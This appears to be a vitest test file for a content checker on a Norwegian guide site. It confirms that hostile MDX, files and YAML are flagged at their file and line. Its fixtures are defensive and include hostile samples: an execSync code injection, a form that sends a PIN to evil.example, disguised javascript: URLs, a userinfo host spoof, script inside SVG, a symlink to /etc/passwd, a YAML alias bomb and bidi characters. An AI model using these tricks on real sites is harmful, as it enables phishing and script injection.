/**
 * The content is data: on the fixture site, input a careless or hostile editor could send
 * in a pull request is a problem at its file, line and column, never a crash. (The MDX
 * rules, one by one, are in tests/unit/guide-compile.test.ts; the build with such input
 * in build.test.ts.)
 */
import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { runSourceChecks } from '../../src/lib/checks/index.ts';
import { fixture, located, removeFixtures, today } from './helpers.ts';

afterAll(removeFixtures);

const check = async (root: string) => (await runSourceChecks(root, { now: today, translations: false })).problems;
const page = (root: string) => join(root, 'src/content/guides/nb/bankid.mdx');
const append = (root: string, text: string) => writeFileSync(page(root), `${readFileSync(page(root), 'utf8')}\n${text}\n`);

describe('pages: every breach of the profile at its place, with the fix', () => {
  it('reports code, a spread, a form and a foreign image in one page, each at its line', async () => {
    const root = fixture();
    append(
      root,
      [
        "import { execSync } from 'node:child_process'",
        '',
        "{execSync('touch /tmp/guide-pwned')}",
        '',
        '<Callout {...{ title: "x" }}>Hei</Callout>',
        '',
        '<form action="https://evil.example/"><input name="pin" /></form>',
        '',
        '![Logo](https://evil.example/logo.png)',
      ].join('\n'),
    );
    const problems = await check(root);
    expect(located(problems)).toEqual([
      'src/content/guides/nb/bankid.mdx:23:1  mdx/esm',
      'src/content/guides/nb/bankid.mdx:25:1  mdx/expression',
      'src/content/guides/nb/bankid.mdx:27:10  mdx/spread',
      'src/content/guides/nb/bankid.mdx:29:1  html/form',
      'src/content/guides/nb/bankid.mdx:31:9  image/external',
    ]);
    expect(problems[0]?.message).toBe('import is not allowed in a page: the components are there without importing, and a page holds no code');
  });

  it('reads an address the way a browser does before judging it', async () => {
    const root = fixture();
    append(root, '[a](/bankid/%E0%A4%A) [b](&#x6A;avascript:alert(1)) [c](https://www.bankid.no@evil.example/)');
    expect(located(await check(root))).toEqual([
      'src/content/guides/nb/bankid.mdx:23:5  link/malformed',
      'src/content/guides/nb/bankid.mdx:23:27  html/javascript-url',
      'src/content/guides/nb/bankid.mdx:23:57  link/host',
    ]);
  });

  it('finds a zero-width space that is the whole alt text', async () => {
    const root = fixture();
    writeFileSync(page(root), readFileSync(page(root), 'utf8').replace("<Screenshot src=\"velg\"", '<Screenshot src="velg" alt="\u200b"'));
    expect(located(await check(root))).toEqual(['src/content/guides/nb/bankid.mdx:16:33  text/invisible']);
  });

  it('names a level written as text at its line', async () => {
    const root = fixture();
    writeFileSync(page(root), readFileSync(page(root), 'utf8').replace('<Steps>', '<Steps level="3">'));
    const problems = await check(root);
    expect(located(problems)).toEqual(['src/content/guides/nb/bankid.mdx:12:15  mdx/prop-value']);
    expect(problems[0]?.message).toContain('level must be the number 2 or 3, written level={3}, not "3"');
  });
});

describe('data and files: anything unreadable is a problem at its file', () => {
  it('reads the frontmatter as Astro does, and refuses TOML frontmatter', async () => {
    const root = fixture();
    // A closing fence with a no-break space after it: Astro ends the frontmatter there, so must the check.
    writeFileSync(page(root), readFileSync(page(root), 'utf8').replace('owner: IT-brukerstøtte\n---', 'owner: IT-brukerstøtte\n---\u00a0\n\n<script>alert(1)</script>\n\n---'));
    expect(located(await check(root))).toContain('src/content/guides/nb/bankid.mdx:10:1  html/script');
    writeFileSync(page(root), '+++\ntitle = "BankID"\n+++\n\nTekst.\n');
    expect(located(await check(root))).toContain('src/content/guides/nb/bankid.mdx:1:1  page/frontmatter');
  });

  it('reports an unclosed component where it opens', async () => {
    const root = fixture();
    writeFileSync(page(root), readFileSync(page(root), 'utf8').replace('</Steps>', ''));
    expect(located(await check(root))).toEqual(['src/content/guides/nb/bankid.mdx:12:1  mdx/syntax']);
  });

  it('publishes from public/ only pictures, PDFs and fonts, and refuses an SVG that holds code', async () => {
    const root = fixture();
    writeFileSync(join(root, 'public/x.js'), 'alert(1)');
    writeFileSync(join(root, 'public/side.html'), '<script>alert(1)</script>');
    writeFileSync(join(root, 'public/figur.svg'), '<svg xmlns="http://www.w3.org/2000/svg"><script href="/x.js"/><a href="javascript:alert(1)"><text>x</text></a></svg>');
    writeFileSync(join(root, 'public/logo.svg'), '<svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/></svg>');
    expect(located(await check(root)).sort()).toEqual([
      'public/figur.svg:1:1  built/script',
      'public/figur.svg:1:1  built/script-url',
      'public/side.html:1:1  file/type',
      'public/x.js:1:1  file/type',
    ]);
  });

  it('refuses YAML aliases, which can expand without end, in frontmatter and screenshot files', async () => {
    const root = fixture();
    writeFileSync(page(root), readFileSync(page(root), 'utf8').replace('owner: IT-brukerstøtte', 'owner: IT-brukerstøtte\na: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\nc: [*b, *b, *b, *b, *b, *b, *b, *b, *b]'));
    const yaml = join(root, 'src/content/screenshots/velg.yaml');
    writeFileSync(yaml, `${readFileSync(yaml, 'utf8')}x: &x [1, 2]\ny: [*x, *x]\n`);
    const problems = await check(root);
    expect(located(problems)).toContain('src/content/guides/nb/bankid.mdx:9:8  page/frontmatter');
    expect(located(problems)).toContain('src/content/screenshots/velg.yaml:19:5  screenshot/invalid-data');
    expect(problems.find((p) => p.rule === 'page/frontmatter')?.message).toBe('the frontmatter uses a YAML alias (*a): write the value out instead');
  });

  it('names an empty PNG and a truncated one', async () => {
    const root = fixture();
    const png = join(root, 'public/screenshots/velg.png');
    const bytes = readFileSync(png);
    writeFileSync(png, '');
    mkdirSync(join(root, 'public/screenshots/en'), { recursive: true });
    writeFileSync(join(root, 'public/screenshots/en/velg.png'), bytes.subarray(0, Math.floor(bytes.length / 2)));
    const problems = (await check(root)).filter((p) => p.rule === 'screenshot/unreadable');
    expect(located(problems).sort()).toEqual(['public/screenshots/en/velg.png:1:1  screenshot/unreadable', 'public/screenshots/velg.png:1:1  screenshot/unreadable']);
    expect(problems[0]?.message).toContain('export the screenshot again as PNG');
  });

  it('refuses symbolic links, hidden files and invisible characters in names, in src/content and public', async () => {
    const root = fixture();
    symlinkSync('/etc/passwd', join(root, 'public/passord.txt'));
    symlinkSync(join(root, 'src/content/guides/nb/index.mdx'), join(root, 'src/content/guides/nb/lenke.mdx'));
    writeFileSync(join(root, 'src/content/guides/nb/.utkast.mdx'), '---\ntitle: x\n---\n');
    writeFileSync(join(root, 'public/skjerm\u200b.png'), '');
    expect(located(await check(root)).sort()).toEqual([
      'public/passord.txt:1:1  file/symlink',
      'public/skjerm\u200b.png:1:1  text/invisible',
      'src/content/guides/nb/.utkast.mdx:1:1  file/hidden',
      'src/content/guides/nb/lenke.mdx:1:1  file/symlink',
    ]);
  });

  it('refuses an invisible character in any text of the data: an alt text, a label, a title', async () => {
    const root = fixture();
    const yaml = join(root, 'src/content/screenshots/velg.yaml');
    writeFileSync(yaml, readFileSync(yaml, 'utf8').replace(/(\n {2}nb: )(.*)/, '$1"\u2067$2"').replace('en: Continue', 'en: Con\u200btinue'));
    writeFileSync(page(root), readFileSync(page(root), 'utf8').replace('title: BankID', 'title: Bank\u202eID'));
    expect(located(await check(root)).sort()).toEqual([
      'src/content/guides/nb/bankid.mdx:2:12  text/invisible',
      'src/content/screenshots/velg.yaml:17:14  text/invisible',
      'src/content/screenshots/velg.yaml:2:8  text/invisible',
    ]);
  });
});
